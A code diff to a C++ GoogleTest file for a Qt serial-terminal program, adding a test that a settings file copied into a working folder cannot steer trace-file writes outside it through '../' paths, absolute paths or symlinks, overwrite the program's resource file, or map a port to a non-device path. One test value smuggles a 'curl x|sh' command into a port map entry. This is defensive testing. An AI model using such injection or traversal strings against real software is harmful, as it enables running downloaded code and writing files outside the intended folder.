@@ -1,8 +1,8 @@
 // The log and the line on files through the window: File -> Save log...
 // writes the lines as shown, a file that can't be written gives a red line
 // and the reason; TraceFile in the settings file traces each connect,
-// appended session by session, and one that can't be written leaves the
-// connect untraced with a grey line.
+// appended session by session, and one a copied settings file may not name
+// leaves the connect untraced with a grey line.
 #include <QAction>
 #include <QFileDialog>
 #include <QMenu>
@@ -84,6 +84,7 @@ TEST_F(GuiLogFileTest, TraceFileTracesEachConnectAsASessionOfItsOwn) {
   StartHandset("TraceFile=trace.txt\n");
   Open();
   ConnectAndDisconnect();
+  EXPECT_TRUE(Logged(*window, "Line trace: " + (dir / "trace.txt").string()));
   ConnectAndDisconnect();
   const std::string trace = ReadText(dir / "trace.txt");
   EXPECT_TRUE(trace.starts_with("# Varnel line trace of COM1, ")) << trace;
@@ -100,17 +101,50 @@ TEST_F(GuiLogFileTest, TraceFileTracesEachConnectAsASessionOfItsOwn) {
   EXPECT_TRUE(trace.ends_with(" close\n"));
 }
 
-TEST_F(GuiLogFileTest, ATraceFileThatCanNotBeWrittenLeavesTheConnectUntraced) {
-  StartHandset("TraceFile=missing/trace.txt\n");
-  Open();
-  ConnectAndDisconnect();
-  const std::vector<ShownLine> lines = LogLines(*window);
-  ASSERT_GE(lines.size(), 2u);
-  EXPECT_EQ(WithoutStamp(lines[0].text), "No line trace: can't write missing/trace.txt");
-  EXPECT_EQ(lines[0].colour, ToQColor(kGrey));
-  EXPECT_EQ(lines[1].colour, ToQColor(kGrey));
-  EXPECT_TRUE(Logged(*window, kConnected));
-  EXPECT_FALSE(std::filesystem::exists(dir / "missing"));
+// A Varnel.ini that came with a folder from someone else can't make the
+// trace write outside that folder or into a file the program reads, nor
+// make the port a file that is no serial device: each gets a grey line,
+// the connect goes on untraced (or, for the port, does not start), and
+// after a connect and a disconnect nothing exists outside the folder.
+TEST_F(GuiLogFileTest, ASettingsFileOfTheWorkingFolderKeepsTheTraceAndThePortInIt) {
+  const std::filesystem::path outside = dir.Path().parent_path() / ("outside-" + dir.Path().filename().string());
+  const std::string absolute = outside.string();
+  struct Case {
+    std::string settings;
+    std::string line;  // the grey line that says why
+    bool connects;
+  };
+  const std::vector<Case> kCases = {
+      {"TraceFile=../" + outside.filename().string(), "No line trace: TraceFile=../" + outside.filename().string() +
+           " ignored; a Varnel.ini in the working folder may name only a file in that folder", true},
+      {"TraceFile=" + absolute, "No line trace: TraceFile=" + absolute +
+           " ignored; a Varnel.ini in the working folder may name only a file in that folder", true},
+      {"TraceFile=Varnel.res", "No line trace: Varnel.res is a file the program reads or writes", true},
+      {"TraceFile=link.txt", "No line trace: can't write link.txt", true},
+      {"ComPort=2\nTraceFile=../x\n[Ports]\nCOM2=" + absolute + ";curl x|sh;#",
+       "Port map entry COM2=" + absolute + ";curl x|sh;# ignored: no serial device there", false},
+  };
+  for (const Case& c : kCases) {
+    SCOPED_TRACE(c.settings);
+    StartHandset(c.settings + "\n");
+    std::filesystem::remove(dir / "link.txt");
+    std::filesystem::create_symlink(outside, dir / "link.txt");
+    const auto packageBytes = std::filesystem::file_size(dir / "Varnel.res");
+    Open();
+    if (c.connects) {
+      ConnectAndDisconnect();
+    } else {
+      Child<QPushButton>(*window, "mainButton")->click();
+      EXPECT_TRUE(Logged(*window, "Can't open port (11) (Serial:142)"));
+    }
+    const std::vector<std::string> texts = LogTexts(*window);
+    const auto line = std::find(texts.begin(), texts.end(), c.line);
+    ASSERT_NE(line, texts.end());
+    EXPECT_EQ(LogLines(*window)[static_cast<size_t>(line - texts.begin())].colour, ToQColor(kGrey));
+    EXPECT_FALSE(std::filesystem::exists(outside));
+    EXPECT_FALSE(std::filesystem::exists(dir.Path().parent_path() / "x"));
+    EXPECT_EQ(std::filesystem::file_size(dir / "Varnel.res"), packageBytes);
+  }
 }
 
 }  // namespace
